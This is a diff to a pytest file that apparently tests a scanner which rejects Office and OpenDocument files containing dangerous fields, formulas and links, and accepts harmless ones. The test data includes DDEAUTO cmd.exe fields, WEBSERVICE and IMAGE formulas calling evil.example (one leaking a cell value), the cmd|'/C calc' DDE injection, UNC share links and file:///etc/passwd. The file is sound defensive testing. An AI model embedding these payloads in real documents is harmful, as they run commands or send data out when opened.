@@ -136,6 +136,31 @@ def _field(*pieces: str) -> bytes:
     return word(**{"word/document.xml": body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')})
 
 
+def _simple_field(attributes: str) -> bytes:
+    return word(**{"word/document.xml": body(f"<w:p><w:fldSimple {attributes}/></w:p>")})
+
+
+def _fields_in_quotes(code: str) -> bytes:
+    """A field between two others whose quotation marks are never closed, each by itself."""
+    runs = "".join(
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{one}</w:instrText></w:r>'
+        for one in ('QUOTE "', code, 'QUOTE "')
+    )
+    return word(**{"word/document.xml": body(f"<w:p>{runs}</w:p>")})
+
+
+def _formula(said: str) -> bytes:
+    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+    return zipped(
+        {
+            "[Content_Types].xml": types({"/xl/workbook.xml": main}),
+            "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
+            "xl/workbook.xml": "<workbook/>",
+            "xl/worksheets/sheet1.xml": f"<worksheet><sheetData><row><c><f>{said}</f></c></row></sheetData></worksheet>",
+        }
+    )
+
+
 @pytest.mark.parametrize(
     ("content", "reason"),
     [
@@ -160,11 +185,25 @@ def _field(*pieces: str) -> bytes:
         (word(**{"xl/externalLinks/externalLink1.xml": "<x/>"}), "fetches"),
         (_field("DD", "EAUTO c:\\\\cmd.exe"), "fetches"),
         (_field(' INCLUDEPICTURE "https://evil.example/x"'), "fetches"),
+        (_simple_field('w:dirty="true" w:instr="DDEAUTO c:\\\\cmd.exe"'), "fetches"),
+        (_simple_field('w:dirty="true" w:instr="INCLUDEPICTURE https://evil.example/x"'), "fetches"),
+        (_fields_in_quotes("DDEAUTO c:\\\\cmd.exe"), "fetches"),
+        (word(**{"word/document.xml": body('<v:imagedata src="https://evil.example/x.png"/>')}), "fetches"),
+        (word(**{"word/document.xml": body('<v:fill o:href="\\\\evil\\share"/>')}), "fetches"),
+        (_formula('WEBSERVICE("https://evil.example/")'), "fetches"),
+        (_formula('_xlfn.IMAGE("https://evil.example/?"&amp;A1)'), "fetches"),
+        (_formula("cmd|'/C calc'!A0"), "fetches"),
+        (_formula('RTD("server",,"x")'), "fetches"),
+        (_formula('HYPERLINK("file:///c:/windows/cmd.exe")'), "opens a file"),
+        (_formula('HYPERLINK("\\\\evil\\share","open")'), "opens a file"),
+        (open_file(inside='<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>'), "fetches"),
+        (open_file(inside='<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)"/>'), "fetches"),
         (open_file(inside='<draw:image xlink:href="https://evil.example/x.png"/>'), "fetches"),
         (_leads("hyperlink", "file:///c:/windows/cmd.exe", "External"), "opens a file"),
         (_leads("hyperlink", "java script:alert(1)", "External"), "opens a file"),
         (_leads("hyperlink", "\\\\evil\\share\\x", "External"), "opens a file"),
         (word(**{"ppt/slides/slide1.xml": '<a action="ppaction://program"/>'}), "opens a file"),
+        (word(**{"ppt/slides/slide1.xml": '<a action="ppaction&#58;//program"/>'}), "opens a file"),
         (open_file(inside='<text:a xlink:href="file:///etc/passwd">x</text:a>'), "opens a file"),
         (old_office("EncryptedPackage"), "password"),
         (open_file(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "password"),
@@ -213,6 +252,21 @@ def test_links_to_the_web_do_no_harm() -> None:
     assert given(_field(' TOC \\o "1-3" \\h'))
     assert given(_field(" MERGEFIELD Link"))
     assert given(open_file(inside='<text:a xlink:href="https://vesterhaven.example/">x</text:a>'))
+
+
+def test_formulas_that_only_reckon_and_link_to_the_web_do_no_harm() -> None:
+    for said in (
+        "SUM(A1:A9)",
+        "IMAGES+1",
+        'HYPERLINK("https://vesterhaven.example/")',
+        'IF(A1&gt;2,"a|b!","c")',
+        "'a|b'!A1",
+    ):
+        assert given(_formula(said)).content
+    cell = '<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>'
+    assert given(open_file(inside=cell)).content
+    link = '<v:shape href="https://vesterhaven.example/"><v:imagedata r:id="rId1"/></v:shape>'
+    assert given(word(**{"word/document.xml": body(link)})).content
 
 
 def test_an_office_file_is_refused_where_none_is_asked_for() -> None:
